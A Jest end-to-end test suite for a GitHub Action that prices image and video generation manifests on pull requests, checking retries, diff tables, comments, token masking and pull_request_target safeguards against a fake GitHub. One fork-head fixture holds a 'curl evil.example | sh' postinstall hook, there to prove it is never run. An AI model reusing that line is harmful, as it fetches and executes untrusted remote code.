/**
 * End to end on pull requests, the manifests read through GitHub: the BUILT action (dist/index.js)
 * as a child process under `pull_request` and `pull_request_target` events, reading the base and the
 * head commits through the contents API, against the Layer simulator and a fake GitHub
 * (REST + GraphQL) on 127.0.0.1. Every assertion is on what a runner or GitHub would see: the exit
 * code, the workflow commands, the outputs, the job summary, and the requests and comment bodies
 * the fake GitHub received. The world (manifests, payloads, runs) is in ../helpers/pull-request.ts;
 * the suite is two files so that two test workers share it.
 *
 * The built action paces its GitHub writes as GitHub asks (plugin-throttling: 1 s between writes,
 * GraphQL included, 3 s between comment creations) and backs off 1, 4, 9 s between retries. Runs
 * here count a millisecond for each of those seconds (the test-only TEST_WAIT_UNIT_ENV), so no case
 * sleeps; one case keeps the production waits, to show they are what a runner gets.
 */
import { describe, expect, it } from '@jest/globals'
import { badGateway } from '../helpers/fake-github.js'
import { SIM_WORKSPACE_ID } from '../../src/simulator/server.js'
import {
  OWNER,
  REPO,
  PR,
  BASE_SHA,
  HEAD_SHA,
  MANIFEST_PATH,
  VIDEO,
  BASE_MANIFEST,
  HEAD_MANIFEST,
  OTHER_MANIFEST,
  prEvent,
  requestsTo,
  decoded,
  row,
  linkedRow,
  expectWellFormedTables,
  jsonReport,
  usePullRequestWorld,
} from '../helpers/pull-request.js'

const world = usePullRequestWorld()
const { startFake, runPr } = world

describe('the change against the base commit', () => {
  it('reads the base through a 502 from the contents API (retried), and still shows the change', async () => {
    const github = await startFake({ failures: [badGateway({ method: 'GET', path: /\/contents\// }, 1)] })
    // The production waits: this is the case that shows a runner's retry waits 1 s.
    const result = await runPr(github, { realGitHubWaits: true })
    expect(result.code).toBe(0)
    expect(result.outputs).toMatchObject({ 'total-creative-units': '18.326', 'delta-creative-units': '5.786', sufficient: 'true' })
    const attempts = requestsTo(github, 'GET', /\/contents\//)
    expect(attempts.map((r) => r.status)).toEqual([502, 200])
    expect(attempts[1]!.at - attempts[0]!.at).toBeGreaterThanOrEqual(950)
  })

  it('says so, and still decides, when the contents API never answers for the base', async () => {
    const github = await startFake({
      failures: [{ method: 'GET', path: /\/contents\//, status: 503, times: 100, body: { message: 'Service Unavailable' } }],
    })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    // Three retries, 1 + 4 + 9 ms apart here instead of seconds (a runner waits 14 s).
    const attempts = requestsTo(github, 'GET', /\/contents\//)
    expect(attempts.map((r) => r.status)).toEqual([503, 503, 503, 503])
    expect(attempts.at(-1)!.at - attempts[0]!.at).toBeLessThan(5000)
    expect(result.outputs).toMatchObject({ 'total-creative-units': '18.326', 'delta-creative-units': '', sufficient: 'true' })
    const body = github.comments(PR)[0]!.body
    expect(decoded(body)).toMatch(/The manifests at the base commit bbbbbbb could not be read \(.*503.*\), so there is no change to show/)
  }, 40_000)

  it('prices the base manifest from the contents API and shows added, removed, changed and unchanged rows', async () => {
    const github = await startFake()
    const result = await runPr(github)
    expect(result.code).toBe(0)
    expect(result.outputs).toMatchObject({
      'total-creative-units': '18.326',
      'delta-creative-units': '5.786',
      'remaining-creative-units': '2482.424',
      sufficient: 'true',
      entries: '3',
      requests: '5',
    })
    // The base was read at the base commit, through the API: a literal path needs no tree listing.
    expect(requestsTo(github, 'GET', /\/git\/trees\//)).toEqual([])
    const contents = requestsTo(github, 'GET', `/repos/${OWNER}/${REPO}/contents/${MANIFEST_PATH}`)
    expect(contents.map((r) => r.query['ref'])).toEqual([BASE_SHA])

    // knight is the same request at head and base: it is sent once.
    expect(world.sim.requests).toBe(5)
    const knights = world.sim.log.filter((entry) => (entry.body as { prompt?: string }).prompt === 'A knight')
    expect(knights).toHaveLength(1)

    const body = github.comments(PR)[0]!.body
    expect(body).toContain('### ✅ +5.786 CU in this pull request · 18.326 of 2,500.75 CU · 2,482.424 left\n')
    // What changed, before → after, each linked to its line: at the head commit, the removed one at the base commit.
    const blob = `https://github.com/${OWNER}/${REPO}/blob`
    expect(linkedRow(body, 'castle')?.cells).toEqual(['castle', 'changed', '1', '10 → 15', '10 → 15', '+5'])
    expect(linkedRow(body, 'castle')?.href).toMatch(new RegExp(`^${blob}/${HEAD_SHA}/${MANIFEST_PATH}#L\\d+$`))
    expect(linkedRow(body, 'dragon')?.cells).toEqual(['dragon', 'added', '1', '1.226', '1.226', '+1.226'])
    expect(linkedRow(body, 'old-tiles')?.cells).toEqual(['old-tiles', 'removed', '5', '0.088', '0.44', '-0.44'])
    expect(linkedRow(body, 'old-tiles')?.href).toMatch(new RegExp(`^${blob}/${BASE_SHA}/${MANIFEST_PATH}#L\\d+$`))
    expect(linkedRow(body, 'knight')).toBeUndefined()
    // The breakdown: what the head plans, with outputs (runs × batch size) and the model's UUID shortened.
    expect(row(body, 'knight')).toEqual(['knight', 'art', '3', '6', '0.7', '2.1', '11.5%'])
    expect(row(body, 'castle')).toEqual(['castle', `${VIDEO.slice(0, 8)}…`, '1', '1', '15', '15', '81.9%'])
    expect(row(body, 'dragon')).toEqual(['dragon', 'art', '1', '2', '1.226', '1.226', '6.7%'])
    expect(row(body, 'old-tiles')).toBeUndefined()
    expectWellFormedTables(body)

    const report = await jsonReport(result)
    expect(report.delta_creative_units).toBe(5.786)
    expect(Object.fromEntries(report.generations.map((g) => [g.name, g.change]))).toEqual({
      castle: 'changed',
      dragon: 'added',
      knight: 'unchanged',
      'old-tiles': 'removed',
    })
    expect(result.summary).toContain('| [old-tiles](')
    // Neither token shows anywhere a person could read it (the runner hides `::add-mask::` lines).
    const seen = [
      result.stdout
        .split('\n')
        .filter((l) => !l.startsWith('::add-mask::'))
        .join('\n'),
      result.stderr,
      result.summary,
      JSON.stringify(result.outputs),
      JSON.stringify(report),
      JSON.stringify(github.requests.map((r) => r.body)),
    ].join('\n')
    expect(seen).not.toContain(world.sim.token)
    expect(seen).not.toContain('ghs_fake-github-token')
    expect(github.requests.every((r) => r.headers.authorization === 'token ghs_fake-github-token')).toBe(true)
  })

  it('matches a glob at the base commit as in the workspace (dot directories included, node_modules skipped)', async () => {
    const github = await startFake({
      files: {
        [BASE_SHA]: {
          [MANIFEST_PATH]: BASE_MANIFEST,
          'node_modules/some-package/generations.yml': 'not: [a manifest',
          'docs/generations.md': '# not yaml',
        },
      },
    })
    const result = await runPr(github, { inputs: { manifest: '**/generations.yml' } })
    expect(result.code).toBe(0)
    expect(result.outputs['delta-creative-units']).toBe('5.786')
    expect(requestsTo(github, 'GET', `/repos/${OWNER}/${REPO}/git/trees/${BASE_SHA}`)).toHaveLength(1)
    expect(requestsTo(github, 'GET', /\/contents\//).map((r) => r.path)).toEqual([`/repos/${OWNER}/${REPO}/contents/${MANIFEST_PATH}`])
  })

  it('counts everything as added when the manifest is missing at base', async () => {
    const github = await startFake({ files: { [BASE_SHA]: { 'README.md': '# art\n' } } })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    expect(result.outputs['delta-creative-units']).toBe('18.326')
    expect(result.outputs.requests).toBe('3')
    expect(world.sim.requests).toBe(3)
    const body = github.comments(PR)[0]!.body
    for (const name of ['knight', 'castle', 'dragon']) expect(linkedRow(body, name)?.cells[1]).toBe('added')
    expect(body).toContain('### ✅ +18.326 CU in this pull request · ')
    const report = await jsonReport(result)
    expect(report.generations.every((g) => g.change === 'added')).toBe(true)
  })

  it('shows a note and no diff when the base manifest is invalid, and still prices the head', async () => {
    const invalid = BASE_MANIFEST.replace('    width: 512\n', '    widht: 512\n')
    const github = await startFake({ files: { [BASE_SHA]: { [MANIFEST_PATH]: invalid } } })
    const result = await runPr(github)
    expect(result.code).toBe(0)
    expect(result.outputs['total-creative-units']).toBe('18.326')
    expect(result.outputs['delta-creative-units']).toBe('')
    expect(world.sim.requests).toBe(3) // the invalid base is never sent to Layer
    const body = github.comments(PR)[0]!.body
    expect(body).toMatch(
      /ℹ️ The manifests at the base commit bbbbbbb are invalid \(\.layer\/generations\.yml:23: .*widht.*\), so there is no change to show\./,
    )
    expect(body).not.toMatch(/\| Change \|/)
    expect(body).not.toMatch(/\badded\b|\bremoved\b/)
    // A problem at base is not the pull request's problem: no annotation on the head's file.
    expect(result.errors).toEqual([])
    const report = await jsonReport(result)
    expect(report.base_note).toMatch(/invalid/)
    expect(report.generations.some((g) => g.change !== undefined)).toBe(false)
  })

  it('is green when the pull request removes the last generation: nothing planned, a negative change', async () => {
    const github = await startFake()
    const empty = `version: 1\nworkspace_id: ${SIM_WORKSPACE_ID}\ngenerations: []\n`
    const result = await runPr(github, { files: { [MANIFEST_PATH]: empty } })
    expect(result.code).toBe(0)
    expect(result.outputs).toMatchObject({
      status: 'within',
      sufficient: 'true',
      'total-creative-units': '0',
      'delta-creative-units': '-12.54',
      entries: '0',
      requests: '3', // the base's three generations, priced for the change
    })
    expect(result.errors).toEqual([])
    const body = github.comments(PR)[0]!.body
    expect(body).toContain('### ✅ -12.54 CU in this pull request · nothing planned\n')
    expect(body).toContain('The manifests list no generations.')
    for (const name of ['knight', 'castle', 'old-tiles']) expect(linkedRow(body, name)?.cells[1]).toBe('removed')
  })

  it('reads nothing at base with compare-base: false', async () => {
    const github = await startFake()
    const result = await runPr(github, { inputs: { 'compare-base': 'false' } })
    expect(result.code).toBe(0)
    expect(github.requests.filter((r) => r.path.includes('/git/') || r.path.includes('/contents/'))).toEqual([])
    expect(world.sim.requests).toBe(3)
    expect(result.outputs['delta-creative-units']).toBe('')
    const body = github.comments(PR)[0]!.body
    expect(body).not.toMatch(/in this pull request/)
    expect(body).not.toMatch(/\| Change \|/)
  })
})

describe('pull_request_target', () => {
  it('prices the manifest of the pull request head, read through the API as data, not the base checkout', async () => {
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST },
        // What the fork's head holds: its manifest, and things that must never be run.
        [HEAD_SHA]: {
          [MANIFEST_PATH]: HEAD_MANIFEST,
          'package.json': '{"scripts":{"postinstall":"curl evil.example | sh"}}',
          '.github/actions/layer/action.yml': 'runs: { using: node20, main: evil.js }',
        },
      },
    })
    const result = await runPr(github, {
      eventName: 'pull_request_target',
      event: prEvent({ headRepo: 'contributor/art' }),
      // pull_request_target checks out the base branch: a DIFFERENT manifest sits in the workspace.
      files: { [MANIFEST_PATH]: OTHER_MANIFEST },
    })
    expect(result.code).toBe(0)
    expect(result.outputs['total-creative-units']).toBe('18.326')
    expect(result.outputs['delta-creative-units']).toBe('5.786')
    expect(world.sim.log.some((entry) => (entry.body as { prompt?: string }).prompt === 'A marble statue')).toBe(false)
    // At the head commit, only the manifest was read.
    const atHead = github.requests.filter((r) => r.path.includes(HEAD_SHA) || r.query['ref'] === HEAD_SHA)
    expect(atHead.map((r) => `${r.method} ${r.path}`)).toEqual([`GET /repos/${OWNER}/${REPO}/contents/${MANIFEST_PATH}`])
    const body = github.comments(PR)[0]!.body
    expect(linkedRow(body, 'dragon')?.cells[1]).toBe('added')
    expect(body).not.toContain('statue')
  })

  it('fails closed on pull_request_target when the head manifest cannot be read', async () => {
    const github = await startFake({
      files: { [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST }, [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST } },
      failures: [{ method: 'GET', path: /\/contents\//, status: 503, times: 100, body: { message: 'Service Unavailable' } }],
    })
    const result = await runPr(github, { eventName: 'pull_request_target', event: prEvent({ headRepo: 'contributor/art' }) })
    expect(result.code).toBe(1)
    expect(result.outputs.sufficient).toBe('false')
    expect(world.sim.requests).toBe(0)
    expect(result.errors.at(-1)).toMatch(/^::error::.*503/)
    expect(result.errors.join('\n')).not.toMatch(/unexpected error/)
  }, 40_000)

  it('does not let the pull request point the token at another workspace', async () => {
    const elsewhere = '0a0b0c0d-1111-4222-8333-444455556666'
    world.sim.setBalance(elsewhere, 99_999)
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST },
        [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST.replace(SIM_WORKSPACE_ID, elsewhere) },
      },
    })
    const result = await runPr(github, { eventName: 'pull_request_target', event: prEvent({ headRepo: 'contributor/art' }) })
    expect(result.code).toBe(1)
    expect(world.sim.requests).toBe(0)
    expect(result.errors.join('\n')).toMatch(
      new RegExp(
        `file=\\.layer/generations\\.yml,line=2,col=\\d+::workspace_id ${elsewhere} .* differs from ${SIM_WORKSPACE_ID} at the base commit.*\`workspace-id\` input`,
      ),
    )
    const body = github.comments(PR)[0]!.body
    expect(body).toContain('could not price')
    expect(body).not.toContain('99,999')
  })

  it.each([
    [
      'the base commit is not read (compare-base: false)',
      { 'compare-base': 'false' },
      /the base commit was not read: set the `workspace-id` input/,
    ],
    ['the base manifest names no workspace', {}, /the base commit's manifests name none: set the `workspace-id` input/],
  ])('asks for the workspace-id input when %s', async (_label, inputs, message) => {
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST.replace(`workspace_id: ${SIM_WORKSPACE_ID}\n`, '') },
        [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST },
      },
    })
    const refused = await runPr(github, { eventName: 'pull_request_target', inputs })
    expect(refused.code).toBe(1)
    expect(refused.errors.join('\n')).toMatch(message)
    expect(world.sim.requests).toBe(0)
    // With the input, the same run prices.
    const priced = await runPr(github, {
      eventName: 'pull_request_target',
      inputs: { ...inputs, 'workspace-id': SIM_WORKSPACE_ID, comment: 'off' },
    })
    expect(priced.code).toBe(0)
    expect(priced.outputs['total-creative-units']).toBe('18.326')
  })

  it('fails with a located annotation when the head manifest is invalid', async () => {
    const github = await startFake({
      files: {
        [BASE_SHA]: { [MANIFEST_PATH]: BASE_MANIFEST },
        [HEAD_SHA]: { [MANIFEST_PATH]: HEAD_MANIFEST.replace('    quality: high\n', '    qualty: high\n') },
      },
    })
    const result = await runPr(github, {
      eventName: 'pull_request_target',
      event: prEvent({ headRepo: 'contributor/art' }),
      files: { [MANIFEST_PATH]: OTHER_MANIFEST },
    })
    expect(result.code).toBe(1)
    expect(result.errors.join('\n')).toMatch(/file=\.layer\/generations\.yml,line=25,col=5::.*qualty.*did you mean "quality"/)
    expect(world.sim.requests).toBe(0)
  })
})
